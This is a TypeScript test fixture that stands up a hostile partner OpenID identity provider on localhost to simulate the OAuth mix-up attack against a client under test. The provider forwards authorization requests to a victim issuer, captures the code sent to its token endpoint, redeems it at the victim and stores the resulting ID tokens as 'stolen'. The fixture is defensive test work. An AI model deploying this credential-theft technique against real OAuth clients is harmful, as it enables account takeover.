import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { TestIssuer } from './oidc-issuer.js';

/**
 * A hostile partner IdP for the mix-up attack (RFC 9700 §4.4.1). Its discovery document is
 * honest about itself, but its `/authorize` sends the browser straight on to the victim
 * issuer's, with every parameter kept (state, nonce, PKCE challenge, `client_id`), so the
 * victim's SSO signs the person in and sends its code back to the client. Its `/token`
 * records what the client sends it and tries to redeem that at the victim issuer: an ID
 * token obtained so is a company credential in the partner's hands.
 */
export class MixUpPartner {
  /** The forms the client sent to this partner's token endpoint. */
  readonly tokenForms: Array<Record<string, string>> = [];
  /** Victim ID tokens the partner obtained by redeeming what it was sent. */
  readonly stolen: string[] = [];
  /** When set, the `redirect_uri` forwarded instead of the client's (a subtler partner). */
  redirectUriOverride: string | null = null;

  private constructor(
    private readonly server: Server,
    readonly issuer: string,
  ) {}

  static async start(victim: TestIssuer): Promise<MixUpPartner> {
    const ref: { self?: MixUpPartner } = {};
    const server = createServer((req, res) => {
      const self = ref.self!;
      const url = new URL(req.url ?? '/', 'http://127.0.0.1');
      if (req.method === 'GET' && url.pathname === '/.well-known/openid-configuration') {
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(
          JSON.stringify({
            issuer: self.issuer,
            authorization_endpoint: `${self.issuer}/authorize`,
            token_endpoint: `${self.issuer}/token`,
            jwks_uri: `${self.issuer}/jwks`,
          }),
        );
      } else if (req.method === 'GET' && url.pathname === '/authorize') {
        const to = new URL(`${victim.issuer}/authorize`);
        to.search = url.search;
        if (self.redirectUriOverride !== null) {
          to.searchParams.set('redirect_uri', self.redirectUriOverride);
        }
        res.writeHead(302, { location: to.href }).end();
      } else if (req.method === 'POST' && url.pathname === '/token') {
        let body = '';
        req.setEncoding('utf8');
        req.on('data', (c: string) => (body += c));
        req.on('end', () => {
          void self.#redeemAtVictim(victim, body).then(() => {
            res.writeHead(400, { 'content-type': 'application/json' });
            res.end(JSON.stringify({ error: 'invalid_grant' }));
          });
        });
      } else {
        res.writeHead(404).end();
      }
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    ref.self = new MixUpPartner(server, `http://127.0.0.1:${port}`);
    return ref.self;
  }

  async #redeemAtVictim(victim: TestIssuer, body: string): Promise<void> {
    this.tokenForms.push(Object.fromEntries(new URLSearchParams(body)));
    const r = await fetch(`${victim.issuer}/token`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body,
    });
    const answer = (await r.json()) as { id_token?: unknown };
    if (typeof answer.id_token === 'string') this.stolen.push(answer.id_token);
  }

  async close(): Promise<void> {
    this.server.closeAllConnections();
    await new Promise<void>((resolve) => this.server.close(() => resolve()));
  }
}
